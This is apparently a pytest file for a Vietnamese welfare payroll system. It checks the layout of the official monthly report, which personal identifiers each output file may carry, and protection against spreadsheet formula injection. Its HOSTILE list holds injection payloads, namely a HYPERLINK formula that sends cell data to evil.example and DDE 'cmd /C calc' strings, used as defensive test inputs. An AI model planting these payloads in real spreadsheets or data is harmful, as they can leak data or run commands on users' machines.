"""The monthly report as a document an official prints, who may read which file, and no
formula injection from a list (issue 17 item 3, issue 14 items 3 and 4).

Every check reads the written files back (openpyxl, csv, raw bytes), as a reader would.
"""

from __future__ import annotations

import asyncio
import csv
import html
import json
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.chart import BarChart, LineChart

from asxh_pay.cells import csv_value, is_formula_like
from asxh_pay.ledger import SqliteLedger
from asxh_pay.payroll.books import reconcile_rails
from asxh_pay.payroll.execute import execute_run
from asxh_pay.payroll.reports import (
    ACCOUNT,
    CCCD,
    NAME,
    PHONE,
    ReportFiles,
    allowed_identifiers,
    write_reports,
)
from tests.payroll.conftest import PEOPLE, Workspace, row, write_list

# --------------------------------------------------------------------------- a small month


def _month(ws: Workspace, rows: list[list[Any]], list_name: str = "xa.csv", **kw: Any) -> ReportFiles:
    """Prepare, approve, pay, reconcile and report a month from one list; return the reports."""
    prep = ws.prepare([write_list(ws.data_dir.parent / list_name, rows)], **kw)
    ws.approve(prep.run_id)
    asyncio.run(
        execute_run(ws.data_dir, prep.run_id, ledger_url=ws.ledger_url, registry=ws.registry, rails=ws.rails)
    )

    async def report() -> ReportFiles:
        async with SqliteLedger(ws.data_dir / "ledger.db", exclusive=False) as ledger:
            await reconcile_rails(ledger, ws.rails, prep.run_id)
            return await write_reports(ledger, prep.run_id, prep.dir / "reports", manifest=prep.manifest)

    return asyncio.run(report())


def _standard_rows() -> list[list[Any]]:
    return [
        row(0),  # bank
        row(1, "Ví điện tử"),
        row(2, "Tài khoản bưu điện"),
        row(3, **{"Số tài khoản": "0071000000001"}),  # the bank refuses: cash fallback
        row(4, "Chi trả tại nhà"),
        row(5, "Nhận tại điểm chi trả"),
        row(7, "Chi trả tại nhà", **{"Chương trình": "BTXH", "Số tiền": "499.000.000"}),
        row(6, "Ví điện tử", **{"Số điện thoại": "0912340004"}),  # the wallet is someone else's: held
    ]


@pytest.fixture
def month(ws: Workspace) -> ReportFiles:
    return _month(ws, _standard_rows())


def _header_row(ws: Any, first: str) -> int:
    for r in range(1, 12):
        if ws.cell(r, 1).value == first:
            return r
    raise AssertionError(f"no header starting with {first!r} in {ws.title}")


# --------------------------------------------------------------------------- 17.3 the document


def test_monthly_report_is_a_printable_official_document(month: ReportFiles) -> None:
    wb = load_workbook(month.xlsx)
    assert wb.sheetnames == [
        "Báo cáo",
        "Tổng hợp",
        "Theo hình thức",
        "Theo đơn vị chi trả",
        "Tỷ lệ tài khoản",
    ]
    cover = wb["Báo cáo"]
    texts = {c.value for r in cover.iter_rows() for c in r if isinstance(c.value, str)}
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in texts and "Độc lập - Tự do - Hạnh phúc" in texts
    assert "UBND PHƯỜNG BA ĐÌNH" in texts  # the paying unit (the commune of the list) by name
    assert any("00004 - Phường Ba Đình" in t for t in texts)  # and beside its code
    assert any("Sở Nội vụ" in t and "Sở Y tế" in t for t in texts)  # the programmes' agencies
    for ws in wb.worksheets:
        # Printed landscape, all columns on the page width; Đạt/Không đạt, never True/False.
        assert ws.page_setup.orientation == "landscape", ws.title
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        for r in ws.iter_rows():
            for c in r:
                assert not isinstance(c.value, bool), (ws.title, c.coordinate)
                if isinstance(c.value, int) and c.value >= 1000:
                    assert c.number_format == "#,##0", (ws.title, c.coordinate, c.number_format)
    for ws in wb.worksheets[1:]:
        head = next(r for r in range(2, 12) if ws.cell(r, 1).font.b and ws.cell(r, 2).value is not None)
        header = [c.value for c in ws[head] if c.value is not None]
        assert all(c.font.b for c in ws[head] if c.value is not None), ws.title
        assert ws.freeze_panes == f"A{head + 1}", ws.title
        assert ws.print_title_rows == f"${head}:${head}", ws.title
        assert ws.page_setup.fitToHeight == 0, ws.title
        assert ws.auto_filter.ref is not None and ws.auto_filter.ref.startswith(f"A{head}:"), ws.title
        # The totals row is last, bold, and adds up the rows above it.
        last = ws.max_row
        while ws.cell(last, 1).value != "Tổng cộng":
            last -= 1
        assert all(c.font.b for c in ws[last] if c.value is not None), ws.title
        for i, name in enumerate(header, 1):
            if name in ("Số lượt", "Số tiền (đồng)", "Số đối tượng", "Tổng số tiền phải trả"):
                body = [ws.cell(r, i).value for r in range(head + 1, last)]
                if ws.title == "Tổng hợp":  # communes' subtotals and province rows are not added again
                    body = [
                        ws.cell(r, i).value
                        for r in range(head + 1, last)
                        if ws.cell(r, 1).value == "Xã" and ws.cell(r, 4).value != "Tất cả"
                    ]
                assert ws.cell(last, i).value == sum(v for v in body if v), (ws.title, name)
        # Every column is wide enough for its longest formatted number (never ### or 3.99E+09).
        for i in range(1, len(header) + 1):
            letter = ws.cell(head, i).column_letter
            width = ws.column_dimensions[letter].width
            for r in range(head + 1, last + 1):
                v = ws.cell(r, i).value
                if isinstance(v, int):
                    assert width >= len(f"{v:,}") + 1, (ws.title, letter, v, width)
    summary = wb["Tổng hợp"]
    head = _header_row(summary, "Cấp")
    cols = [c.value for c in summary[head]]
    assert cols[1:3] == ["Mã đơn vị", "Tên đơn vị"]
    rows = list(summary.iter_rows(min_row=head + 1, values_only=True))
    commune = next(r for r in rows if r[1] == "00004" and r[3] == "NCC")
    assert commune[2] == "Phường Ba Đình" and commune[4] == "Sở Nội vụ"
    assert {r[cols.index("Đạt chỉ tiêu")] for r in rows} <= {"Đạt", "Không đạt"}
    due = cols.index("Tổng số tiền phải trả")
    total = rows[-1]
    assert total[0] == "Tổng cộng" and total[due] == 6 * 1_500_000 + 499_000_000
    share_col = cols.index("Tỷ lệ qua tài khoản (%)") + 1
    assert summary.cell(head + len(rows), share_col).number_format == "0.00"


def test_account_share_chart_has_each_commune_and_the_target(month: ReportFiles) -> None:
    ws = load_workbook(month.xlsx)["Tỷ lệ tài khoản"]
    head = _header_row(ws, "Mã đơn vị")
    assert len(ws._charts) == 1
    chart = ws._charts[0]
    kinds = {type(c): c for c in chart._charts}
    assert set(kinds) == {BarChart, LineChart}
    bar, line = kinds[BarChart], kinds[LineChart]
    assert bar.series[0].val.numRef.f.startswith(f"'Tỷ lệ tài khoản'!$E${head + 1}")
    target = line.series[0]
    assert target.tx.v == "Chỉ tiêu 30%"
    assert target.val.numRef.f.startswith(f"'Tỷ lệ tài khoản'!$F${head + 1}")
    assert ws.cell(head + 1, 6).value == 30 and ws.cell(head, 6).value == "Chỉ tiêu (%)"
    assert ws.cell(head + 1, 7).value in ("Đạt", "Không đạt")


def test_detail_lists_are_separate_files_and_the_report_has_no_personal_data(month: ReportFiles) -> None:
    names = sorted(p.name for p in month.details)
    assert names == [  # the paid-twice list only when a case needs recovering (none here)
        "danh-sach-tien-mat-buu-dien-2026-11.xlsx",
        "that-bai-2026-11.xlsx",
    ]
    wb = load_workbook(month.xlsx)
    headers = {c.value for ws in wb.worksheets for r in ws.iter_rows(max_row=12) for c in r}
    assert "Số CCCD" not in headers and "Họ và tên" not in headers
    cash = load_workbook(month.directory / "danh-sach-tien-mat-buu-dien-2026-11.xlsx").active
    assert cash is not None
    head = _header_row(cash, "Mã giao dịch")
    assert cash.freeze_panes == f"A{head + 1}" and cash.print_title_rows == f"${head}:${head}"
    assert cash.page_setup.orientation == "landscape" and cash.page_setup.fitToWidth == 1


# --------------------------------------------------------------------------- 14.3 who may read what


def _identifiers() -> dict[str, list[str]]:
    """The test population's identifiers, in every form a file could hold them."""
    cccds = [c for _, c, _ in PEOPLE]
    names = [unicodedata.normalize("NFC", n) for n, _, _ in PEOPLE]
    phones = [f"091234{i:02d}77" for i in range(len(PEOPLE))] + [
        f"8491234{i:02d}77" for i in range(len(PEOPLE))
    ]
    accounts = [f"0071000{i:02d}7777" for i in range(len(PEOPLE))] + [
        f"88000{i:02d}7777" for i in range(len(PEOPLE))
    ]
    # A JSON writer may escape the Vietnamese letters: look for that spelling too.
    names += [json.dumps(n)[1:-1] for n in names]
    return {CCCD: cccds, NAME: names, PHONE: phones, ACCOUNT: accounts}


def _content(path: Path) -> str:
    data = path.read_bytes()
    if data[:2] == b"PK":  # XLSX: the XML parts inside the zip, character references resolved
        with zipfile.ZipFile(path) as z:
            return html.unescape(b"".join(z.read(n) for n in z.namelist()).decode("utf-8", errors="replace"))
    return data.decode("utf-8", errors="replace")


def test_every_written_file_carries_only_the_identifiers_declared_for_it(ws: Workspace) -> None:
    _month(ws, _standard_rows())
    found: dict[str, set[str]] = {}
    undeclared = []
    for path in sorted(p for p in ws.data_dir.rglob("*") if p.is_file()):
        rel = path.relative_to(ws.data_dir).as_posix()
        allowed = allowed_identifiers(rel)
        if allowed is None:
            undeclared.append(rel)
            continue
        text = _content(path)
        carried = {kind for kind, values in _identifiers().items() if any(v in text for v in values)}
        found[rel] = carried
        assert carried <= allowed, f"{rel} carries {sorted(carried - allowed)} (allowed: {sorted(allowed)})"
    assert not undeclared, f"files written but not declared in reports.OUTPUTS: {undeclared}"
    # The scan sees what it must: the postal service's list has the full cash identities.
    cash = [r for r in found if "danh-sach-tien-mat-buu-dien" in r]
    assert cash and all({CCCD, NAME} <= found[r] for r in cash), {r: found[r] for r in cash}
    assert any(r.endswith("payouts.jsonl") and CCCD in found[r] for r in found)


def test_the_identifier_table_refuses_an_unknown_file() -> None:
    assert allowed_identifiers("runs/x/reports/bao-cao-thang-2026-11.xlsx") == frozenset()
    assert allowed_identifiers("runs/x/reports/danh-sach-tien-mat-buu-dien.csv") == {CCCD, NAME}
    assert allowed_identifiers("somewhere/else.txt") is None


# --------------------------------------------------------------------------- 14.4 formula injection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_value_neutralises_every_trigger() -> None:
    for value in HOSTILE:
        assert csv_value(value) == "'" + value
    assert csv_value("-") == "-" and csv_value("-1500") == "-1500" and csv_value(-5) == -5
    assert csv_value("Nguyễn Văn An") == "Nguyễn Văn An" and csv_value(None) == ""


def _check_no_live_formula(directory: Path) -> int:
    """Every CSV field that could start a formula is quoted; every XLSX cell is data, never a formula."""
    checked = 0
    for path in directory.rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as f:
            for fields in csv.reader(f):
                for field in fields:
                    checked += 1
                    assert not is_formula_like(field), f"{path.name}: {field!r}"
    for path in directory.rglob("*.xlsx"):
        wb = load_workbook(path)
        for sheet in wb.worksheets:
            for r in sheet.iter_rows():
                for c in r:
                    checked += 1
                    assert c.data_type != "f", f"{path.name}!{sheet.title}!{c.coordinate}: {c.value!r}"
    return checked


def test_no_formula_from_a_name_an_address_or_a_list_file_name(ws: Workspace) -> None:
    rows = _standard_rows()
    rows[4] = row(4, "Chi trả tại nhà", **{"Địa chỉ": HOSTILE[0]})  # home delivery: the postal list
    rows[5] = row(5, "Nhận tại điểm chi trả", **{"Địa chỉ": HOSTILE[3]})
    rows.append(row(6, **{"Họ và tên": HOSTILE[1], "Số CCCD": "001070000099"}))  # rejected or held
    rows.append(row(6, **{"Số tiền": HOSTILE[2]}))  # rejected: its reason quotes the cell
    month = _month(ws, rows, list_name="=cmd@calc.csv", verify_accounts=False)
    cash = (month.directory / "danh-sach-tien-mat-buu-dien.csv").read_text(encoding="utf-8-sig")
    assert "'" + HOSTILE[0].replace('"', '""') in cash  # the address is there, neutralised
    rejected = (month.directory.parent / "rejected.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd@calc.csv" in rejected  # the list file name, neutralised
    assert _check_no_live_formula(month.directory.parent) > 100
    wb = load_workbook(month.directory / "danh-sach-tien-mat-buu-dien-2026-11.xlsx")
    values = {c.value for r in wb.active.iter_rows() for c in r} if wb.active is not None else set()
    assert HOSTILE[0] in values  # kept as text, readable, not evaluated


def test_reconciliation_break_reports_write_no_formula(tmp_path: Path) -> None:
    from asxh_pay.reconcile import Break, Category, ReconciliationReport

    category = next(iter(Category))
    report = ReconciliationReport(
        lines=[Break(category, False, "=1+1", payout_id="@SUM(A1)", detail=HOSTILE[0], files="+x.xml")],
        files=["=evil.xml"],
    )
    for ext in ("csv", "xlsx"):
        report.write(tmp_path / f"breaks.{ext}")
    assert _check_no_live_formula(tmp_path) > 10
